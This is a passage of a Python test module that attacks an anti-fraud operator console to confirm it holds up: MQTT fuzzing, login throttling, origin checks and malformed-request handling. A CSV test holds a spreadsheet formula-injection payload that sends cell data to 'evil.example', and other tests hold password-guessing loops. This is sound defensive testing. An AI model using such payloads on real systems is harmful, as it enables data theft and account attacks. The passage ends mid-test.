"""The operator console against hostile parties: one handset's or one operator's credentials.

Whoever holds them may spoil that party's own messages, never stop, freeze or slow the
console, nor read what they should not. Every test runs the real console (aiohttp) against a
real private Mosquitto; the fuzz test drives the console's own MQTT message handler.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import statistics
import time
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import ClientSession, CookieJar
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from scenario import CHEN, INVESTMENT, Player, Script
from test_console import PASSWORD, login, serving

from adapters.broker import Mosquitto, free_port, mosquitto_binary
from adapters.console import Console, LoginThrottle, Users, neutralise_cell
from adapters.live import Clock, LiveService
from adapters.mqtt import BrokerURL, open_client
from dispatcher import logs
from dispatcher.protocol import IncidentDetail, validate_outbound
from dispatcher.settings import Settings

pytestmark = [
    pytest.mark.broker,
    pytest.mark.skipif(mosquitto_binary() is None, reason="mosquitto is not installed"),
]
P = "antifraud/v1"
UNIT = "G-YJ-CH-01"
OTHER = "G-YJ-CH-02"


def status_event(unit: str, state: str, event_id: str) -> bytes:
    return json.dumps(
        {
            "specversion": "1.0",
            "id": event_id,
            "source": f"unit/{unit}",
            "type": "cn.antifraud.unit.status",
            "time": "2021-10-15T14:00:00+08:00",
            "data": {"state": state},
        }
    ).encode()


async def presence(http: ClientSession, base: str) -> dict[str, str]:
    async with http.get(f"{base}/api/state") as response:
        assert response.status == 200
        return {u["id"]: u["presence"] for u in (await response.json())["units"]}


async def wait_presence(
    http: ClientSession, base: str, unit: str, wanted: str, within: float = 5.0
) -> dict[str, str]:
    deadline = time.monotonic() + within
    while True:
        seen = await presence(http, base)
        if seen[unit] == wanted or time.monotonic() > deadline:
            return seen
        await asyncio.sleep(0.05)


@contextlib.contextmanager
def captured_logs() -> Any:
    stream = io.StringIO()
    logs.configure("warning", stream)
    try:
        yield stream
    finally:
        logs.configure("warning")


# ---- 1. the MQTT feed survives any payload ----------------------------------------------


LONE_SURROGATE_ESCAPED = b'{"data":{"state":"\\ud800"}}'
LONE_SURROGATE_RAW = b'{"data":{"state":"\xed\xa0\x80"}}'


async def test_hostile_status_payloads_do_not_stop_the_feed(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """A lone surrogate on a unit's own status topic, escaped and raw, retained: the feed
    goes on, the refusal is logged with its reason, and it goes on after a restart too."""
    url = BrokerURL.parse(broker.url)
    async with open_client(url) as radio:
        for payload in (LONE_SURROGATE_ESCAPED, LONE_SURROGATE_RAW):
            await radio.publish(f"{P}/units/{UNIT}/status", payload, qos=1, retain=True)
    for run in range(2):  # the second time, the retained payload greets a fresh console
        with captured_logs() as lines:
            async with (
                serving(settings, broker, tmp_path) as (base, console),
                ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
            ):
                state = await login(http, base)
                async with open_client(url) as radio:
                    await radio.publish(
                        f"{P}/units/{OTHER}/status",
                        status_event(OTHER, "offline", f"s{run}"),
                        qos=1,
                    )
                seen = await wait_presence(http, base, OTHER, "offline")
                assert seen[OTHER] == "offline"  # the board still updates
                assert seen[UNIT] == "unknown"
                async with http.get(f"{base}/api/state") as response:
                    assert (await response.json())["connected"] is True
                async with http.post(
                    f"{base}/api/incidents/INC-C1/escalate",
                    json={},
                    headers={"X-CSRF-Token": state["csrf"]},
                ) as response:
                    assert response.status == 200  # actions still go out
                assert console.mqtt_task is not None and not console.mqtt_task.done()
        refused = [
            json.loads(line)
            for line in lines.getvalue().splitlines()
            if "console_message_refused" in line
        ]
        assert refused, lines.getvalue()
        assert all(r["topic"] == f"{P}/units/{UNIT}/status" and r["reason"] for r in refused)


def _invalid_utf8() -> st.SearchStrategy[bytes]:
    """Every class of invalid UTF-8: stray continuation bytes, overlong forms, encoded
    surrogates, code points past U+10FFFF, bytes that never occur, truncated sequences."""
    return st.sampled_from(
        [
            b"\x80",
            b"\xbf",
            b"\xc0\x80",
            b"\xc1\xbf",
            b"\xe0\x80\x80",
            b"\xf0\x80\x80\x80",
            b"\xed\xa0\x80",
            b"\xed\xbf\xbf",
            b"\xed\xa0\xbd\xed\xb8\x80",
            b"\xf4\x90\x80\x80",
            b"\xf5\x80\x80\x80",
            b"\xfe",
            b"\xff",
            b"\xe4\xb8",
            b"\xf0\x9f\x98",
            b"\xc3",
        ]
    )


# text hypothesis leaves out by default: lone surrogates; and characters past the BMP
surrogates = st.integers(0xD800, 0xDFFF).map(chr)
nasty_text = st.text(
    alphabet=st.characters(codec=None, exclude_categories=()) | surrogates, max_size=12
) | st.sampled_from(["\ud800", "\udfff", "😀", "\U0010ffff", "陈", "", "online", "offline"])
scalars = st.none() | st.booleans() | st.integers() | st.floats() | nasty_text
json_values = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(nasty_text, inner, max_size=4),
    max_leaves=16,
)


def _encode(value: Any, escaped: bool) -> bytes:
    """JSON text of ``value``: lone surrogates as ``\\udXXX`` escapes, or as raw bytes."""
    if escaped:
        return json.dumps(value, ensure_ascii=True).encode()
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _splice(valid: bytes, junk: bytes, at: int) -> bytes:
    at %= len(valid) + 1
    return valid[:at] + junk + valid[at:]


def _mutate(event: dict[str, Any], path: list[str], value: Any) -> dict[str, Any]:
    """A copy of ``event`` with the field at ``path`` (as far as it exists) set to ``value``."""
    copy: Any = json.loads(json.dumps(event))
    node = copy
    for key in path[:-1]:
        if isinstance(node, dict) and isinstance(node.get(key), dict | list):
            node = node[key]
        elif isinstance(node, list) and node:
            node = node[0]
    if isinstance(node, dict):
        node[path[-1]] = value
    elif isinstance(node, list) and node:
        node[0] = value
    return copy  # type: ignore[no-any-return]


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, dict[str, Any]]]:
    """Real messages of every kind the console reads, from the dispatcher itself."""
    from conftest import CONFIG

    from dispatcher.settings import load_settings

    settings = load_settings(CONFIG)
    script = Script()
    incident = script.escalated(0, "C-F1")
    script.reply(260, "G-YJ-CH-01", "accepted", incident)
    script.reply(270, "G-YJ-CH-01", "arrived", "INC-NOPE")  # dead-lettered
    script.close(300, incident, "prevented", "note")
    tmp = tmp_path_factory.mktemp("published")
    result = asyncio.run(Player(settings, tmp)(script))
    found = [(m["topic"], m["payload"]) for m in result.outbox() if m["payload"] is not None]
    found.append((f"{P}/units/{UNIT}/status", json.loads(status_event(UNIT, "online", "x"))))
    found.append(
        (
            f"{P}/dispatcher/status",
            {
                "specversion": "1.0",
                "id": "d1",
                "source": "antifraud/dispatcher",
                "type": "cn.antifraud.dispatcher.status",
                "time": "2021-10-15T14:00:00Z",
                "subject": "dispatcher",
                "datacontenttype": "application/json",
                "data": {"state": "online"},
            },
        )
    )
    return found


CONSOLE_TOPICS = [
    f"{P}/operators/incidents",
    f"{P}/incidents/INC-C-F1",
    f"{P}/incidents/x",
    f"{P}/units/{UNIT}/status",
    f"{P}/units/NOT-A-UNIT/status",
    f"{P}/deadletter",
    f"{P}/dispatcher/status",
]


def test_the_console_survives_any_payload_on_any_topic_it_reads(
    settings: Settings, tmp_path: Path, published: list[tuple[str, dict[str, Any]]]
) -> None:
    """Random bytes, random JSON (lone surrogates escaped and raw, characters past the BMP),
    invalid UTF-8 spliced into real messages, real messages with a field replaced, huge and
    deep JSON, on every topic the console reads: the handler never raises, and the board
    stays something every browser can be sent (UTF-8 JSON, the protocol's own values)."""
    console = Console(settings, BrokerURL.parse("mqtt://127.0.0.1:1"), None, Users(tmp_path / "u"))
    loop = asyncio.new_event_loop()
    known = [topic for topic, _ in published] + CONSOLE_TOPICS
    payloads = st.one_of(
        st.binary(max_size=200),
        st.builds(_encode, json_values, st.booleans()),
        st.builds(
            lambda m, junk, at: _splice(json.dumps(m[1]).encode(), junk, at),
            st.sampled_from(published),
            _invalid_utf8(),
            st.integers(0, 10_000),
        ),
        st.builds(
            lambda m, path, value, escaped: _encode(_mutate(m[1], path, value), escaped),
            st.sampled_from(published),
            st.lists(
                st.sampled_from(
                    [
                        "data",
                        "incident_id",
                        "status",
                        "state",
                        "dispatches",
                        "unit",
                        "timeline",
                        "closed_at",
                        "subscriber",
                        "id",
                        "reason",
                        "type",
                        "specversion",
                        "at",
                    ]
                ),
                min_size=1,
                max_size=3,
            ),
            json_values,
            st.booleans(),
        ),
        st.sampled_from(
            [
                b"",
                b"[" * 100_000 + b"]" * 100_000,
                b'{"data":' * 5_000 + b"1" + b"}" * 5_000,
                b'{"data":{"state":"' + b"x" * 2_000_000 + b'"}}',
                LONE_SURROGATE_ESCAPED,
                LONE_SURROGATE_RAW,
                b"NaN",
                b'{"data":{"state":Infinity}}',
            ]
        ),
    )

    @hsettings(
        max_examples=int(__import__("os").environ.get("CONSOLE_FUZZ_CASES", "400")),
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(st.lists(st.tuples(st.sampled_from(known), payloads), min_size=1, max_size=3))
    def run(messages: list[tuple[str, bytes]]) -> None:
        for topic, payload in messages:
            loop.run_until_complete(console.handle_message(topic, payload))
        snapshot = console.board.snapshot()
        json.dumps(snapshot, ensure_ascii=False).encode("utf-8")
        assert {u["presence"] for u in snapshot["units"]} <= {"online", "offline", "unknown"}
        assert console.dispatcher in ("online", "offline", "unknown")
        for incident in console.board.incidents.values():
            IncidentDetail.model_validate(incident)

    try:
        run()
        # and a real message is still taken after all that
        incident = next(p for t, p in published if t.endswith("/operators/incidents"))
        loop.run_until_complete(
            console.handle_message(f"{P}/operators/incidents", json.dumps(incident).encode())
        )
        assert incident["data"]["incident_id"] in console.board.incidents
    finally:
        loop.close()


def test_the_fuzz_seeds_are_real_messages(published: list[tuple[str, dict[str, Any]]]) -> None:
    kinds = set()
    for topic, event in published:
        if not topic.endswith("/units/G-YJ-CH-01/status"):
            validate_outbound(event)
        kinds.add(event["type"])
    assert {
        "cn.antifraud.incident.opened",
        "cn.antifraud.incident.closed",
        "cn.antifraud.input.rejected",
        "cn.antifraud.dispatcher.status",
        "cn.antifraud.unit.status",
    } <= kinds


async def test_a_feed_that_stops_is_shown_as_stopped(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """Should the feed's task end anyway, the console says so: not connected, the board
    stale, and actions refused at once rather than sent on a dead connection."""
    async with (
        serving(settings, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        state = await login(http, base)
        async with http.ws_connect(f"{base}/ws") as ws:
            assert console.mqtt_task is not None
            console.mqtt_task.cancel()
            while True:
                frame = json.loads((await asyncio.wait_for(ws.receive(), 5)).data)
                if frame["kind"] == "connection":
                    break
        assert frame["data"] == {"connected": False, "feed": "stopped"}
        async with http.get(f"{base}/api/state") as response:
            body = await response.json()
        assert (body["connected"], body["feed"]) == (False, "stopped")
        async with http.post(
            f"{base}/api/incidents/INC-C1/escalate",
            json={},
            headers={"X-CSRF-Token": state["csrf"]},
        ) as response:
            assert response.status == 503


# ---- 2. presence as the dispatcher accepted it --------------------------------------------


REFUSED_STATUS = [
    b'{"data":{"state":"online"}}',  # not a CloudEvent
    json.dumps(
        {
            "specversion": "1.0",
            "id": "w1",
            "source": f"unit/{UNIT}",
            "type": "cn.antifraud.unit.status",
            "data": {"state": "ONLINE"},
        }
    ).encode(),  # not a state
    json.dumps(
        {
            "specversion": "1.0",
            "id": "w2",
            "source": f"unit/{UNIT}",
            "type": "cn.antifraud.unit.accepted",
            "data": {"state": "online"},
        }
    ).encode(),  # not a status
]


async def test_presence_is_what_the_dispatcher_accepted(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """A unit goes offline; then it sends "online" the dispatcher refuses (not a CloudEvent,
    a wrong state, a wrong type, a repeat of an event id it has already seen): the console
    still shows offline, as the dispatcher holds it; an accepted "online" shows at once."""
    url = BrokerURL.parse(broker.url)
    store = tmp_path / "live.sqlite3"
    service = LiveService(settings, url, store, Clock())
    stop = asyncio.Event()
    task = asyncio.create_task(service.run(stop))
    await asyncio.wait_for(service.ready.wait(), 10)
    try:
        async with (
            serving(settings, broker, tmp_path, store) as (base, _),
            ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
            open_client(url) as radio,
        ):
            await login(http, base)
            topic = f"{P}/units/{UNIT}/status"
            await radio.publish(topic, status_event(UNIT, "offline", "s1"), qos=1, retain=True)
            assert (await wait_presence(http, base, UNIT, "offline"))[UNIT] == "offline"
            for payload in [*REFUSED_STATUS, status_event(UNIT, "online", "s1")]:
                await radio.publish(topic, payload, qos=1, retain=True)
            # a marker the dispatcher accepts after them, on another unit's topic
            await radio.publish(
                f"{P}/units/{OTHER}/status", status_event(OTHER, "offline", "o1"), qos=1
            )
            assert (await wait_presence(http, base, OTHER, "offline"))[OTHER] == "offline"
            await asyncio.sleep(0.3)
            assert (await presence(http, base))[UNIT] == "offline"
            await radio.publish(topic, status_event(UNIT, "online", "s2"), qos=1, retain=True)
            assert (await wait_presence(http, base, UNIT, "online", 3))[UNIT] == "online"
    finally:
        stop.set()
        await task


async def test_without_the_store_presence_needs_a_status_the_dispatcher_would_accept(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    url = BrokerURL.parse(broker.url)
    async with (
        serving(settings, broker, tmp_path) as (base, _),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
        open_client(url) as radio,
    ):
        await login(http, base)
        topic = f"{P}/units/{UNIT}/status"
        await radio.publish(topic, status_event(UNIT, "offline", "s1"), qos=1)
        assert (await wait_presence(http, base, UNIT, "offline"))[UNIT] == "offline"
        for payload in REFUSED_STATUS:
            await radio.publish(topic, payload, qos=1)
        await radio.publish(f"{P}/units/{OTHER}/status", status_event(OTHER, "offline", "o1"))
        assert (await wait_presence(http, base, OTHER, "offline"))[OTHER] == "offline"
        assert (await presence(http, base))[UNIT] == "offline"
        await radio.publish(topic, status_event(UNIT, "online", "s2"), qos=1)
        assert (await wait_presence(http, base, UNIT, "online"))[UNIT] == "online"


# ---- 3. logging in -----------------------------------------------------------------------


def test_the_login_throttle_grows_and_forgets() -> None:
    now = [1000.0]
    throttle = LoginThrottle(free=3, base_s=1.0, cap_s=60.0, forget_s=600.0, clock=lambda: now[0])
    for _ in range(3):
        assert throttle.wait("k") == 0
        throttle.failed("k")
    assert throttle.wait("k") == pytest.approx(1.0)
    now[0] += 1.0
    assert throttle.wait("k") == 0
    throttle.failed("k")
    assert throttle.wait("k") == pytest.approx(2.0)
    for _ in range(20):
        now[0] += 100
        throttle.failed("k")
    assert throttle.wait("k") == pytest.approx(60.0)  # capped
    assert throttle.wait("other") == 0
    now[0] += 601
    assert throttle.wait("k") == 0
    throttle.failed("k")
    assert throttle.wait("k") == 0  # forgotten: the free tries again
    throttle.succeeded("k")
    assert "k" not in throttle.entries


async def post_login(
    http: ClientSession, base: str, operator: str, password: str
) -> aiohttp.ClientResponse:
    async with http.post(
        f"{base}/login", data={"operator": operator, "password": password}, allow_redirects=False
    ) as response:
        await response.read()
        return response


async def test_login_is_throttled_per_operator_and_per_address(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    async with (
        serving(settings, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        free = console.pair_throttle.free
        for _ in range(free):
            response = await post_login(http, base, "op-01", "wrong")
            assert response.headers["Location"] == "/login?failed=1"
        response = await post_login(http, base, "op-01", PASSWORD)  # even the right one waits
        assert response.status == 429
        assert int(response.headers["Retry-After"]) >= 1
        async with http.post(
            f"{base}/login", data={"operator": "op-01", "password": PASSWORD}, allow_redirects=False
        ) as response:
            assert "登录" in await response.text()
        async with http.get(f"{base}/api/state") as state:
            assert state.status == 401
        # another operator from the same address is not held up by op-01's lock
        response = await post_login(http, base, "op-02", "wrong")
        assert response.status == 302
        # the address: many operator ids, each within its own free tries
        for k in range(console.address_throttle.free):
            response = await post_login(http, base, f"op-x{k}", "wrong")
        response = await post_login(http, base, "op-y", "wrong")
        assert response.status == 429
        # the wait passes: op-01 may try again, and the right password works
        console.pair_throttle.entries.clear()
        console.address_throttle.entries.clear()
        console.operator_throttle.entries.clear()
        await login(http, base)


async def test_guessers_do_not_slow_the_board(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """Eight parallel password guessers: the hashing happens off the event loop, a few at a
    time, so the board answers as fast as without them."""
    async with (
        serving(settings, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
        ClientSession() as guessers,
    ):
        await login(http, base)
        console.pair_throttle.free = console.address_throttle.free = 10**9  # guess freely
        console.operator_throttle.free = 10**9

        async def sample(n: int) -> list[float]:
            times = []
            for _ in range(n):
                started = time.perf_counter()
                async with http.get(f"{base}/api/state") as response:
                    await response.read()
                times.append(time.perf_counter() - started)
                await asyncio.sleep(0.01)
            return times

        quiet = await sample(10)
        stop = asyncio.Event()
        guesses = [0]

        async def guess(k: int) -> None:
            while not stop.is_set():
                await post_login(guessers, base, f"op-0{k % 2 + 1}", f"guess-{k}")
                guesses[0] += 1

        tasks = [asyncio.create_task(guess(k)) for k in range(8)]
        await asyncio.sleep(0.2)
        busy = await sample(30)
        stop.set()
        await asyncio.gather(*tasks)
    assert guesses[0] >= 8  # the guessing did go on meanwhile
    assert statistics.median(busy) < max(0.05, 10 * statistics.median(quiet)), (quiet, busy)
    assert max(busy) < 0.3, busy


async def test_unknown_operators_take_as_long_as_wrong_passwords(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """Timing does not tell which operator ids exist: an id that is not an operator, an
    operator with no password and a wrong password cost the same hashing."""
    async with (
        serving(settings, broker, tmp_path) as (base, _),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        timings: dict[str, list[float]] = {"op-01": [], "op-02": [], "op-99": []}
        for _ in range(3):
            for operator, spent in timings.items():
                started = time.perf_counter()
                await post_login(http, base, operator, "wrong-password")
                spent.append(time.perf_counter() - started)
    known = min(timings["op-01"])
    for operator in ("op-02", "op-99"):
        assert 0.5 < min(timings[operator]) / known < 2.0, timings


async def test_a_password_change_ends_the_operators_sessions(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    async with (
        serving(settings, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as other,
    ):
        console.users.set_password("op-02", PASSWORD)
        await login(http, base)
        await login(other, base, "op-02")
        async with http.ws_connect(f"{base}/ws") as ws:
            console.users.set_password("op-01", "a new password")  # antifraud console-user
            message = await asyncio.wait_for(ws.receive(), 5)
            assert message.type in (aiohttp.WSMsgType.CLOSE, aiohttp.WSMsgType.CLOSED)
        async with http.get(f"{base}/api/state") as response:
            assert response.status == 401
        async with other.get(f"{base}/api/state") as response:
            assert response.status == 200  # op-02's password did not change
        response = await post_login(http, base, "op-01", PASSWORD)
        assert response.headers["Location"] == "/login?failed=1"
        await login(http, base, "op-01", "a new password")


# ---- 4. origins ----------------------------------------------------------------------------


async def test_the_websocket_and_posts_refuse_a_foreign_origin(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """A page served elsewhere on the same host (another port: the same site, so the
    browser sends the cookie) may not read the live feed nor act."""
    async with (
        serving(settings, broker, tmp_path) as (base, _),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        state = await login(http, base)
        foreign = [f"http://127.0.0.1:{free_port()}", "null", "https://evil.example", "é"]
        for origin in foreign:
            with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
                async with http.ws_connect(f"{base}/ws", headers={"Origin": origin}):
                    pass
            assert refused.value.status == 403
            async with http.post(
                f"{base}/api/incidents/INC-C1/escalate",
                json={},
                headers={"X-CSRF-Token": state["csrf"], "Origin": origin},
            ) as response:
                assert response.status == 403
            async with http.post(
                f"{base}/login",
                data={"operator": "op-01", "password": PASSWORD},
                headers={"Origin": origin},
                allow_redirects=False,
            ) as response:
                assert response.status == 403
        async with http.ws_connect(f"{base}/ws", headers={"Origin": base}) as ws:
            assert not ws.closed
        async with http.post(
            f"{base}/api/incidents/INC-C1/escalate",
            json={},
            headers={"X-CSRF-Token": state["csrf"], "Origin": base},
        ) as response:
            assert response.status == 200


# ---- 5. malformed requests -----------------------------------------------------------------


async def raw_request(
    port: int, method: str, path: bytes, headers: list[tuple[bytes, bytes]], body: bytes = b""
) -> tuple[int, bytes]:
    """One HTTP/1.1 request written byte for byte (headers and bodies no client library would
    send), and the status and body of the answer."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        head = [method.encode() + b" " + path + b" HTTP/1.1", b"Host: 127.0.0.1:%d" % port]
        head += [name + b": " + value for name, value in headers]
        head += [b"Content-Length: %d" % len(body), b"Connection: close"]
        writer.write(b"\r\n".join(head) + b"\r\n\r\n" + body)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()
    status = int(answer.split(b" ", 2)[1])
    return status, answer.partition(b"\r\n\r\n")[2]


async def test_malformed_requests_get_a_4xx_never_a_500(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    async with (
        serving(settings, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        state = await login(http, base)
        port = int(base.rsplit(":", 1)[1])
        cookie = next(c for c in http.cookie_jar if c.key == "antifraud_session").value
        session = [(b"Cookie", b"antifraud_session=" + cookie.encode())]
        csrf = [(b"X-CSRF-Token", state["csrf"].encode())]
        as_json = [(b"Content-Type", b"application/json")]
        act = b"/api/incidents/INC-C1/"
        cases: list[tuple[str, bytes, list[tuple[bytes, bytes]], bytes]] = [
            ("POST", act + b"callback", [*session, (b"X-CSRF-Token", "éé".encode())], b"{}"),
            ("POST", act + b"callback", [*session, (b"X-CSRF-Token", b"\xe9\xe9")], b"{}"),
            ("POST", act + b"callback", [*session, (b"X-CSRF-Token", b"\xff")], b"{}"),
            ("POST", b"/logout", [*session, (b"X-CSRF-Token", "éé".encode())], b""),
            ("POST", act + b"escalate", session + csrf + as_json, b"[]"),
            ("POST", act + b"escalate", session + csrf + as_json, b"null"),
            ("POST", act + b"callback", session + csrf + as_json, b'"no_answer"'),
            ("POST", act + b"callback", session + csrf + as_json, b"1"),
            ("POST", act + b"callback", session + csrf + as_json, b'{"result": 1}'),
            ("POST", act + b"callback", session + csrf + as_json, b'{"result": ["no_answer"]}'),
            ("POST", act + b"callback", session + csrf + as_json, b'{"result": {}}'),
            ("POST", act + b"callback", session + csrf + as_json, b"{}"),
            ("POST", act + b"callback", session + csrf + as_json, b""),
            ("POST", act + b"callback", session + csrf + as_json, b"\xff\xfe{}"),
            ("POST", act + b"callback", session + csrf + as_json, b'{"result":"\xed\xa0\x80"}'),
            ("POST", act + b"callback", session + csrf + as_json, b'{"result": NaN}'),
            ("POST", act + b"callback", session + csrf + as_json, b"[" * 10_000),
            (
                "POST",
                act + b"close",
                session + csrf + as_json,
                b'{"outcome":"prevented","note":"\\ud800"}',
            ),
            (
                "POST",
                act + b"close",
                session + csrf + as_json,
                b'{"outcome":"prevented","note":"\xed\xa0\x80"}',
            ),
            (
                "POST",
                act + b"close",
                session + csrf + as_json,
                b'{"outcome":"prevented","note":"\\udfff\\ud800x"}',
            ),
            ("POST", act + b"close", session + csrf + as_json, b'{"outcome":"prevented","note":7}'),
            (
                "POST",
                act + b"close",
                session + csrf + as_json,
                b'{"outcome":"prevented","note":["x"]}',
            ),
            (
                "POST",
                act + b"close",
                session + csrf + as_json,
                b'{"outcome":"prevented","note":"' + b"x" * 3_000_000 + b'"}',
            ),
            ("POST", act + b"close", session + csrf + as_json, b'{"outcome":"lost"}'),
            ("POST", act + b"teleport", session + csrf + as_json, b"{}"),
            ("POST", b"/api/incidents/%ED%A0%80/escalate", session + csrf + as_json, b"{}"),
            ("POST", b"/api/incidents/%FF%FE/escalate", session + csrf + as_json, b"{}"),
            ("POST", b"/api/incidents/INC-" + b"x" * 5000 + b"/escalate", session + csrf, b"{}"),
            ("POST", b"/api/incidents/INC-a%2Fb/escalate", session + csrf + as_json, b"{}"),
            (
                "POST",
                b"/login",
                [(b"Content-Type", b"application/x-www-form-urlencoded")],
                b"operator=%FF%FE&password=%ED%A0%80",
            ),
            (
                "POST",
                b"/login",
                [(b"Content-Type", b"application/x-www-form-urlencoded")],
                b"operator=\xff\xfe&password=\xed\xa0\x80",
            ),
            (
                "POST",
                b"/login",
                [(b"Content-Type", b"application/x-www-form-urlencoded")],
                b"operator=op-01&password=" + b"x" * 3_000_000,
            ),
            (
                "POST",
                b"/login",
                [(b"Content-Type", b"multipart/form-data; boundary=zz")],
                b"--zz\r\nContent-Disposition: form-data\r\n\r\n\xff\r\n",
            ),
            ("POST", b"/login", [(b"Content-Type", b"application/json")], b"[]"),
            ("GET", b"/api/history?from=garbage", session, b""),
            ("GET", b"/api/history?to=2021-13-45", session, b""),
            ("GET", b"/api/history?from=%ED%A0%80", session, b""),
            ("GET", b"/api/history?from=%FF", session, b""),
            ("GET", b"/api/history?outcome=teleported", session, b""),
            ("GET", b"/api/history?q=" + b"x" * 5000, session, b""),
            ("GET", b"/api/history.csv?from=1970-1-1", session, b""),
            ("GET", b"/api/history.csv?to=%00", session, b""),
            ("GET", b"/api/history.csv?outcome=%ED%A0%80", session, b""),
            ("GET", b"/api/state", [(b"Cookie", b"antifraud_session=\xff\xfe")], b""),
            (
                "GET",
                b"/ws",
                [*session, (b"Upgrade", b"websocket"), (b"Connection", b"Upgrade")],
                b"",
            ),
        ]
        # text a browser would send, if odd: answered, not refused
        status, text = await raw_request(port, "GET", b"/api/history?q=%ED%A0%80", session)
        assert status == 200, text

        answers = []
        for method, path, headers, body in cases:
            status, text = await raw_request(port, method, path, headers, body)
            answers.append((status, method, path[:60], text[:200]))
        wrong = [
            a for a in answers if not (400 <= a[0] < 500 or (a[0] == 302 and b"login" in a[2]))
        ]
        assert not wrong, wrong
        # the UI gets its reasons in Chinese
        assert all(
            any("\u4e00" <= ch <= "\u9fff" for ch in text.decode("utf-8", "replace"))
            for status, method, path, text in answers
            if (path.startswith(b"/api/incidents") and status != 404) or b"history" in path
        ), answers
        async with http.get(f"{base}/api/state") as response:
            assert response.status == 200  # and the console goes on
        assert console.mqtt_task is not None and not console.mqtt_task.done()


# ---- 6. CSV export -------------------------------------------------------------------------


def test_formula_cells_are_neutralised() -> None:
    for text in ("=1+1", "+86138", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise_cell(text) == "'" + text
    for text in ("陈某某", "INC-C-1", "", "prevented", "a=b"):
        assert neutralise_cell(text) == text


async def test_the_csv_export_does_not_pass_formulas(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    script = Script()
    script.call(0, "C-CSV", CHEN, INVESTMENT, until_s=60)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    script.close(100, "INC-C-CSV", "false_alarm", formula)
    result = await Player(settings, tmp_path)(script)
    async with (
        serving(settings, broker, tmp_path, result.store) as (base, _),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        await login(http, base)
        async with http.get(f"{base}/api/history.csv") as response:
            body = (await response.read()).decode("utf-8-sig")
        async with http.get(f"{base}/api/history") as response:
            shown = (await response.json())["incidents"]
    import csv

    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["note"] == "'" + formula
    assert rows[0]["subscriber"] == "'" + CHEN  # +86…: a formula to a spreadsheet
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    assert shown[0]["note"] == formula  # the page shows it as written


async def test_guessing_from_other_addresses_cannot_lock_an_operator_out(
    settings: Settings, broker: Mosquitto, tmp_path: Path
) -> None:
    """Someone who can reach the console but has no password fails op-01's login fifty
    times from ten other addresses: op-01, from its own, waits at most a short while, not
    the quarter of an hour that used to lock it out."""
    from adapters.console import OPERATOR_WAIT_CAP_S

    async with (
        serving(settings, broker, tmp_path) as (base, console),
        ClientSession(cookie_jar=CookieJar(unsafe=True)) as http,
    ):
        now = [0.0]  # the operator-wide throttle's clock, moved on past each wait it sets
        console.operator_throttle.clock = lambda: now[0]
        for host in range(2, 12):  # ten other loopback addresses, five failures each
            connector = aiohttp.TCPConnector(local_addr=(f"127.0.0.{host}", 0))
            async with ClientSession(connector=connector) as guesser:
                for _ in range(console.pair_throttle.free):
                    now[0] += console.operator_throttle.wait("op-01") + 0.001
                    async with guesser.post(
                        f"{base}/login",
                        data={"operator": "op-01", "password": "wrong"},
                        allow_redirects=False,
                    ) as response:
                        await response.read()
                        assert response.headers.get("Location") == "/login?failed=1"
        response = await post_login(http, base, "op-01", PASSWORD)
        assert response.status == 429
        assert int(response.headers["Retry-After"]) <= OPERATOR_WAIT_CAP_S
        now[0] += OPERATOR_WAIT_CAP_S  # the short wait passes
        await login(http, base)


def test_a_late_will_of_a_previous_holder_does_not_turn_the_dispatcher_offline(
    settings: Settings, tmp_path: Path
) -> None:
    """Active/standby: the console shows who serves; an ``offline`` said for an earlier epoch
    (the old holder's will, arriving late) changes nothing, one for the current epoch does."""
    console = Console(settings, BrokerURL.parse("mqtt://127.0.0.1:1"), None, Users(tmp_path / "u"))

    def status(state: str, epoch: int, n: int) -> bytes:
        data = {
            "state": state,
            "instance": f"host-{epoch}:1:ab",
            "since": "2026-12-01T22:00:00+00:00",
        }
        return json.dumps(
            {
                "specversion": "1.0",
                "id": f"s{n}",
                "source": "antifraud/dispatcher",
                "type": "cn.antifraud.dispatcher.status",
                "time": "2026-12-01T22:00:00Z",
                "subject": "dispatcher",
